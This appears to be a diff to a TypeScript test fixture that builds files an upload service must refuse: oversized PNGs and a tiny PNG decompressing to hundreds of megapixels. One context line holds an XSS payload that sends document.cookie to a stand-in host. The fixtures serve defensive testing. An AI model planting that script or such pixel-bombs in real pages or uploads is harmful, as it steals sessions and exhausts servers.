@@ -20,15 +20,15 @@ const script = '<script>fetch("//evil.test/"+document.cookie)</script>';
 /** Files made to be refused, each with the words it is refused with. */
 export async function hostileFiles(): Promise<HostileFile[]> {
   const [jpeg, png, gif, webp, avif] = await Promise.all([
-    picture('jpeg', { width: 300, height: 200, noise: true }),
-    picture('png', { width: 300, height: 200, noise: true }),
+    picture('jpeg', { width: 90, height: 60, noise: true }),
+    picture('png', { width: 90, height: 60, noise: true }),
     picture('gif'),
-    picture('webp', { width: 300, height: 200, noise: true }),
-    picture('avif', { width: 300, height: 200, noise: true }),
+    picture('webp', { width: 90, height: 60, noise: true }),
+    picture('avif', { width: 90, height: 60, noise: true }),
   ]);
   const cut = (bytes: Buffer) => bytes.subarray(0, Math.floor(bytes.length * 0.6));
-  const large = await picture('png', { width: 1300, height: 1200, noise: true });
   const limit = 5 * 1024 * 1024;
+  const padded = (length: number) => Buffer.concat([png, Buffer.alloc(length - png.length)]);
 
   return [
     file(
@@ -104,11 +104,12 @@ export async function hostileFiles(): Promise<HostileFile[]> {
       message: /broken|megapixels/,
     }),
 
-    file('one-byte-over.png', 'image/png', Buffer.concat([large, Buffer.alloc(limit + 1 - large.length)]), {
+    file('one-byte-over.png', 'image/png', padded(limit + 1), {
       statusCode: '413',
       message: 'The object exceeded the maximum allowed size',
     }),
-    file('much-over.png', 'image/png', noiseBytes(20 * 1024 * 1024), {
+    // More than the file and all that a form may carry besides: refused by its announced length.
+    file('much-over.png', 'image/png', padded(limit + 1024 * 1024 + 1024), {
       statusCode: '413',
       message: 'The object exceeded the maximum allowed size',
     }),
@@ -149,11 +150,11 @@ function emptyZip(comment: string): Buffer {
 const pngSignature = Buffer.from('\x89PNG\r\n\x1a\n', 'latin1');
 
 /** One bit a pixel and all of them the same: hundreds of megapixels in a few kilobytes. */
-function flatPng(width: number, height: number): Buffer {
+export function flatPng(width: number, height: number): Buffer {
   const rows = Buffer.alloc((Math.ceil(width / 8) + 1) * height);
   return Buffer.concat([
     pngHeader(width, height),
-    chunk('IDAT', deflateSync(rows, { level: 9 })),
+    chunk('IDAT', deflateSync(rows, { level: 1 })),
     chunk('IEND', Buffer.alloc(0)),
   ]);
 }
